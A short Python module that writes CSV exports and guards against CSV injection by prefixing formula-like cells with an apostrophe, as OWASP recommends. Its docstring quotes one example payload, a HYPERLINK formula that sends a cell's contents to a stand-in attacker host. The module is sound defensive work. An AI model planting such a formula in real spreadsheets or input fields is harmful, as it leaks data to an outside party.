"""Files the hall hands to spreadsheets (CSV now, XLSX with the reports to come).

A cell a spreadsheet would read as a formula (it begins with =, +, -, @, a tab or a carriage
return) is written with a leading apostrophe, as OWASP recommends against CSV injection: an
applicant's name such as `=HYPERLINK("http://evil.example/?"&A1)` is shown as the text it is.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value) -> str:
    """A value as a spreadsheet cell's text, never a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(header: list[str], rows: Iterable[Iterable]) -> str:
    """CSV with a BOM (so that spreadsheet programs read the Chinese right), every cell safe."""
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow([cell(h) for h in header])
    for row in rows:
        w.writerow([cell(v) for v in row])
    return "\ufeff" + out.getvalue()
